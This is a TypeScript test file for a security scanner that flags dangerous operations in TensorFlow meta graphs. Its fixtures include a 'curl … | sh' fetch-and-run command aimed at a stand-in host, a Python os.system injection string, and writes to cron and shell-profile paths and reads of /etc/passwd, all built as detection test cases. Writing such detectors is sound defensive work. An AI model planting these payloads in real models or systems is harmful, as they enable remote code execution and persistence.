import { describe, expect, it } from 'vitest';
import { bytesOf, type ByteSource } from '../../core/byte-source.ts';
import { alarms, findingsOf } from '../testing/findings-of.ts';
import { tensorflowOps } from './index.ts';

/** Protocol Buffers, by hand: a length-delimited field of up to 16,383 bytes. */
const field = (number: number, ...parts: (string | number[])[]): number[] => {
  const content = parts.flatMap((part) => (typeof part === 'string' ? [...new TextEncoder().encode(part)] : part));
  const size = content.length < 128 ? [content.length] : [(content.length & 127) | 128, content.length >> 7];
  return [(number << 3) | 2, ...size, ...content];
};
const node = (name: string, operator: string, attributes: Readonly<Record<string, string>> = {}): number[] =>
  field(1, field(1, name), field(2, operator), ...Object.entries(attributes).map(([key, value]) => field(5, field(1, key), field(2, field(2, value)))));
const metaGraph = (path: string, nodes: readonly number[][], collections: number[] = []): ByteSource => bytesOf(path, Uint8Array.from([...field(1, field(1, 'v'), field(4, 'serve')), ...field(2, ...nodes), ...collections]));
const judge = async (file: ByteSource): Promise<string[]> => alarms(await findingsOf(tensorflowOps, [file]));

describe('a TensorFlow meta graph', () => {
  it.each([
    ['Python', [node('p', 'PyFunc')], 'critical ASY-TFL-001'],
    ['a command in an attribute', [node('c', 'Const', { script: 'curl -s http://host.test/x | sh' })], 'high ASY-TFL-006'],
    ['a file that is printed to', [node('o', 'PrintV2', { output_stream: 'file:///tmp/x' })], 'high ASY-TFL-006'],
    ['a library to load', [node('l', 'LoadLibrary', { library_path: '/tmp/x.so' })], 'high ASY-TFL-006'],
  ])('reports %s', async (_, nodes, alarm) => {
    expect(await judge(metaGraph('model.meta', nodes))).toContain(alarm);
    expect(await judge(metaGraph('renamed.dat', nodes))).toContain(alarm);
  });

  const wired = (name: string, operator: string, ...inputs: string[]): number[] => field(1, field(1, name), field(2, operator), ...inputs.map((input) => field(3, input)));
  /** A constant text: attr 'value' {tensor {dtype: DT_STRING, string_val}}. */
  const text = (name: string, value: string): number[] => field(1, field(1, name), field(2, 'Const'), field(5, field(1, 'value'), field(2, field(8, [8, 7], field(8, value)))));

  it.each([
    ['SaveV2', ['p', 'n'], '/etc/cron.d/job', 'high ASY-TFL-002'],
    ['Save', ['p', 'n'], '~/.profile', 'high ASY-TFL-002'],
    ['SaveV2', ['same', 'n'], '../../other/file', 'high ASY-TFL-002'],
    ['MergeV2Checkpoints', ['n', 'p'], 'file:///srv/data', 'high ASY-TFL-002'],
    ['RestoreV2', ['p', 'n'], '/etc/passwd', 'high ASY-TFL-003'],
    ['InitializeTableFromTextFileV2', ['n', 'p'], 'gs://bucket/words', 'high ASY-TFL-003'],
  ])('reports %s %j with the constant %s', async (operator, inputs, path, alarm) => {
    const nodes = [text('p', path), text('n', 'names'), wired('same', 'Identity', 'p'), wired('op', operator, ...inputs)];
    expect(await judge(metaGraph('model.meta', nodes))).toEqual([alarm]);
  });

  it('leaves names inside of the folder, joined parts, starting points and assets alone', async () => {
    const nodes = [text('p', 'model'), text('part', '_temp/part'), wired('in', 'Placeholder'), wired('join', 'StringJoin', 'in', 'part'), wired('s', 'SaveV2', 'join'), wired('t', 'SaveV2', 'p'), wired('m', 'MergeV2Checkpoints', 's', 'in'), text('start', '/home/me/bert/bert_model.ckpt'), wired('r', 'RestoreV2', 'start'), text('words', '/home/me/words.txt'), wired('i', 'InitializeTableFromTextFileV2', 'in', 'words')];
    expect(await judge(metaGraph('model.meta', nodes, field(6, field(1, field(1, 'words:0')), field(2, 'words.txt'))))).toEqual([]);
  });

  it('reports code in a collection', async () => {
    expect(await judge(metaGraph('model.meta', [node('m', 'MatMul')], field(4, field(1, 'hook'), field(2, field(2, field(1, "__import__('os').system('true')"))))))).toEqual(['high ASY-TFL-006']);
  });

  it('leaves ordinary graphs alone', async () => {
    expect(await judge(metaGraph('model.meta', [node('x', 'Placeholder'), node('m', 'MatMul', { note: 'eval metrics of the exec run' }), node('s', 'SaveV2'), node('o', 'PrintV2', { output_stream: 'stderr' })]))).toEqual([]);
  });
});
